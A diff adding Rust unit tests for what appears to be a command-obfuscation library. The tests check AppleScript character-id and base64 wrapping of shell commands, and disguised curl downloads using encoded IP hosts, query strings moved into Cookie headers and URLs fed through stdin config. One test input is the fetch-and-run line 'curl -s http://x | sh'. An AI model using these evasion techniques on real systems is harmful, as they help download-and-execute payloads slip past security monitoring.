+            let result = osascript_obfuscate(script);
+            assert!(!result.contains("hello"), "{}", result);
+            if let Some(b64) = result
+                .strip_prefix("run script (do shell script \"echo ")
+                .and_then(|rest| rest.strip_suffix(" | base64 --decode\")"))
+            {
+                assert_eq!(b64, base64_encode(script));
+                forms.insert("base64");
+            } else if result.starts_with("run script (character id {") {
+                assert_eq!(char_id_strings(&result), vec![script]);
+                forms.insert("script");
+            } else {
+                assert!(result.starts_with("display dialog (character id {"));
+                assert_eq!(char_id_strings(&result), vec!["hello"]);
+                forms.insert("literals");
+            }
+        }
+        assert_eq!(forms.len(), 3);
+    }
+
+    #[test]
+    fn test_osascript_obfuscate_literal_escapes() {
+        for _ in 0..30 {
+            let result = osascript_obfuscate("do shell script \"echo \\\"a\\\"\" & \"\"");
+            if result.starts_with("do shell script") {
+                assert_eq!(
+                    result,
+                    "do shell script (character id {101, 99, 104, 111, 32, 34, 97, 34}) & \"\""
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn test_osascript_shell_wrap() {
+        let result = osascript_shell_wrap("curl -s http://x | sh");
+        assert!(result.starts_with("osascript -e 'do shell script (character id {"));
+        assert!(result.ends_with("})'"));
+        assert_eq!(char_id_strings(&result), vec!["curl -s http://x | sh"]);
+        assert_eq!(result.matches('\'').count(), 2);
+    }
+
+    /// Pulls the target URL out of a `curl_obfuscate` command.
+    fn curl_target(command: &str) -> String {
+        if let Some(config) = command.strip_prefix("echo 'url = \"") {
+            return config.split("\"' |").next().unwrap().to_string();
+        }
+        let quoted = command.rsplit(" '").next().unwrap();
+        quoted.trim_end_matches('\'').to_string()
+    }
+
+    #[test]
+    fn test_curl_obfuscate_ipv4_host() {
+        let forms = [
+            "http://2130706433/s.sh",
+            "http://0x7f000001/s.sh",
+            "http://017700000001/s.sh",
+            "http://0x7f.0x0.0x0.0x1/s.sh",
+        ];
+        for _ in 0..30 {
+            let result = curl_obfuscate("http://127.0.0.1/s.sh");
+            assert!(!result.contains("127.0.0.1"), "{}", result);
+            assert!(forms.contains(&curl_target(&result).as_str()), "{}", result);
+        }
+    }
+
+    #[test]
+    fn test_curl_obfuscate_hostname_port_and_fragment() {
+        for _ in 0..20 {
+            let result = curl_obfuscate("https://example.com:8443/a/b.sh#frag");
+            assert_eq!(curl_target(&result), "https://example.com:8443/a/b.sh");
+        }
+        let result = curl_obfuscate("http://[::1]:8080/x");
+        assert_eq!(curl_target(&result), "http://[::1]:8080/x");
+    }
+
+    #[test]
+    fn test_curl_obfuscate_query_forms() {
+        let mut seen = HashSet::new();
+        for _ in 0..60 {
+            let result = curl_obfuscate("http://example.com/p?id=1&cmd=a%20b");
+            let target = curl_target(&result);
+            if target.ends_with("?id=1&cmd=a%20b") {
+                seen.insert("url");
+            } else if result.contains(" -G ") {
+                assert!(result.contains("--data-urlencode 'id=1'"), "{}", result);
+                assert!(result.contains("--data-urlencode 'cmd=a b'"), "{}", result);
+                seen.insert("data");
+            } else {
+                let cookie = format!("-H 'Cookie: q={}'", base64_encode("id=1&cmd=a%20b"));
+                assert!(result.contains(&cookie), "{}", result);
+                seen.insert("header");
+            }
+            if !target.contains('?') {
+                assert_eq!(target, "http://example.com/p");
+            }
+        }
+        assert_eq!(seen.len(), 3);
+    }
+
+    #[test]
+    fn test_curl_obfuscate_flag_forms() {
+        let mut seen = HashSet::new();
+        for _ in 0..60 {
+            let result = curl_obfuscate("http://example.com/");
+            if result.contains("curl -fsSL") {
+                seen.insert("combined");
+            } else if result.contains("curl -f -s -S -L") {
+                seen.insert("separate");
+            } else {
+                for flag in ["--fail", "--silent", "--show-error", "--location"] {
+                    assert!(result.contains(flag), "{}", result);
+                }
+                seen.insert("long");
+            }
+        }
+        assert_eq!(seen.len(), 3);
+    }
+
+    #[test]
+    fn test_curl_obfuscate_url_delivery() {
+        let mut seen = HashSet::new();
+        for _ in 0..60 {
+            let result = curl_obfuscate("http://example.com/");
+            if result.starts_with("echo 'url = \"http://example.com/\"' | curl ") {
+                assert!(result.ends_with(" -K -"), "{}", result);
+                seen.insert("config");
+            } else if result.ends_with(" --url 'http://example.com/'") {
+                seen.insert("option");
+            } else {
+                assert!(result.ends_with(" 'http://example.com/'"), "{}", result);
+                seen.insert("argument");
+            }
+        }
+        assert_eq!(seen.len(), 3);
+    }
+
+    #[test]
+    fn test_curl_obfuscate_quotes_url() {
+        for _ in 0..20 {
+            let result = curl_obfuscate("http://example.com/it's");
+            assert!(result.contains("it'\\''s"), "{}", result);
+        }
+    }
+
+    #[test]
+    fn test_curl_obfuscate_detailed_matches_output() {
+        for _ in 0..30 {
+            let result = curl_obfuscate_detailed("http://10.0.0.1/a?x=1");
+            assert_ne!(result.parameter("host"), Some("unchanged"));
+            match result.parameter("query").unwrap() {
+                "url" => assert!(result.output.contains("?x=1")),
+                "data_urlencode" => assert!(result.output.contains("-G --data-urlencode 'x=1'")),
+                "cookie" => assert!(result.output.contains("Cookie: q=")),
+                other => panic!("unexpected query form {}", other),
+            }
+            match result.parameter("flags").unwrap() {
+                "combined" => assert!(result.output.contains("-fsSL")),
+                "separate" => assert!(result.output.contains("-f -s -S -L")),
+                _ => assert!(result.output.contains("--show-error")),
+            }
+            match result.parameter("delivery").unwrap() {
+                "argument" => assert!(result.output.starts_with("curl ")),
+                "url_option" => assert!(result.output.contains(" --url '")),
+                _ => assert!(result.output.ends_with(" -K -")),
+            }
+        }
     }
 }